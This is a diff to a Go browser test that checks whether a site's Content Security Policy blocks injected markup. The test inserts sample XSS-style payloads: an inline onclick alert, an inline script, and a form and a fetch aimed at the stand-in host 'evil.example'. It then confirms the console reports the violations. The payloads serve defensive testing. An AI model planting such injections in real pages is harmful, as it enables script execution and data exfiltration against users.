@@ -3,6 +3,7 @@ package browser_test
 import (
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/chromedp/cdproto/emulation"
 	"github.com/chromedp/chromedp"
@@ -101,9 +102,9 @@ func TestThePolicyStopsWhatMarkupWouldDo(t *testing.T) {
 	g.Do(t, chromedp.Navigate(d.url+"/fleet?name=asn"))
 	g.logIn("alice")
 	browser.Run[bool](t, g.Tab, `(() => {
-		document.body.insertAdjacentHTML("beforeend", '<img src="/stolen"><p id="trap" onclick="alert(1)">trap</p><form action="https://evil.example/" method="post"></form>')
+		document.body.insertAdjacentHTML("beforeend", '<img src="/stolen"><p id="trap" onclick="alert(1)">trap</p><form id="leak" action="https://evil.example/" method="post"></form>')
 		document.getElementById("trap").click()
-		document.querySelector("form:last-child").submit()
+		document.getElementById("leak").submit()
 		const script = document.createElement("script")
 		script.textContent = "alert(2)"
 		document.body.append(script)
@@ -112,13 +113,16 @@ func TestThePolicyStopsWhatMarkupWouldDo(t *testing.T) {
 	if fetched := browser.Run[bool](t, g.Tab, `fetch("https://evil.example/").then(() => true, () => false)`, chromedp.EvalAwaitPromise); fetched {
 		t.Error("the page can fetch from elsewhere")
 	}
-	trouble := strings.Join(g.Troubles(), "\n")
+	trouble := ""
 	for _, directive := range []string{"img-src", "script-src", "connect-src", "form-action"} {
-		if !strings.Contains(trouble, directive) && !strings.Contains(trouble, "default-src") {
-			t.Errorf("the console says nothing of %s:\n%s", directive, trouble)
+		for end := time.Now().Add(hang); !strings.Contains(trouble, directive); time.Sleep(20 * time.Millisecond) {
+			if time.Now().After(end) {
+				t.Fatalf("the console says nothing of %s:\n%s", directive, trouble)
+			}
+			trouble = strings.Join(g.Troubles(), "\n")
 		}
 	}
-	if strings.Contains(trouble, "alert") && strings.Contains(trouble, "alert: ") {
+	if strings.Contains(trouble, "alert: ") {
 		t.Errorf("a script ran:\n%s", trouble)
 	}
 }
